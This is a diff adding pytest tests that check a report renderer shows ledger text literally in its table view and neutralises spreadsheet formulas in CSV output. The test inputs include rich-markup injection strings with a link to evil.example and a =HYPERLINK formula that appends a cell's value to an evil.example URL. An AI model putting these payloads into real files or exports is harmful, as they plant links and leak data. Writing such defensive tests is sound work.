@@ -168,3 +168,54 @@ def escape_html(text: str) -> str:
     import html
 
     return html.escape(text)
+
+
+HOSTILE = "[/b][link=https://evil.example]x[/link][bold red]NO CUMPLE[/]"
+
+
+def _hostile(value: object) -> object:
+    """``value`` with rich markup in front of every text in it (lists and dicts too)."""
+    if isinstance(value, str):
+        return HOSTILE + value
+    if isinstance(value, list):
+        return [_hostile(v) for v in value]
+    if isinstance(value, dict):
+        return {k: _hostile(v) for k, v in value.items()}
+    return value
+
+
+@pytest.mark.parametrize("kind", REPORT_KINDS)
+def test_tabla_shows_free_text_as_it_is_never_as_markup(scenario: Scenario, kind: str) -> None:
+    """Free text from the ledger (an oficio number, a device id, a summary) reaches the table
+    as written: read as rich markup, an unbalanced ``[/b]`` would make every ``tabla`` of the
+    report fail (rich raises, and the event is in the ledger for good), and ``[link=…]`` would
+    plant a link in evidence. Every text of every row carries both here."""
+    from dataclasses import replace
+
+    report = built(scenario, kind)
+    assert report.rows
+    rows = [{k: _hostile(v) for k, v in row.items()} for row in report.rows]
+    title = HOSTILE + report.title
+    text = render(replace(report, rows=rows, title=title), "tabla", Policy())
+    assert text.startswith(HOSTILE)  # the title, as written
+    assert text.count("[/b]") > len(rows)  # the cells' texts, as written (cut to fit)
+    # Nothing was read as markup: every bracket is still there, none became a style or link.
+    plain = render(report, "tabla", Policy())
+    assert text.count("[") >= plain.count("[") + len(rows)
+
+
+def test_csv_cells_never_start_a_spreadsheet_formula(scenario: Scenario) -> None:
+    """An oficio number written as a formula (``=HYPERLINK(…)``) would run in the reviewer's
+    spreadsheet when the CSV is opened: such a cell starts with an apostrophe instead (shown as
+    written); numbers, dates and ordinary text are unchanged."""
+    from dataclasses import replace
+
+    report = built(scenario, "cambios")
+    formulas = ['=HYPERLINK("https://evil.example/?"&A1,"ver")', "+1+1", "-2+3", "@SUM(A1)"]
+    rows = [{**report.rows[0], "via_oficial": f, "detalle": f} for f in formulas]
+    parsed = list(csv.DictReader(io.StringIO(render(replace(report, rows=rows), "csv"))))
+    assert [r["via_oficial"] for r in parsed] == ["'" + f for f in formulas]
+    assert [r["detalle"] for r in parsed] == ["'" + f for f in formulas]
+    plain = list(csv.DictReader(io.StringIO(render(report, "csv"))))
+    assert plain[0]["via_oficial"] == report.rows[0]["via_oficial"]
+    assert plain[0]["solicitada"][:4].isdigit()
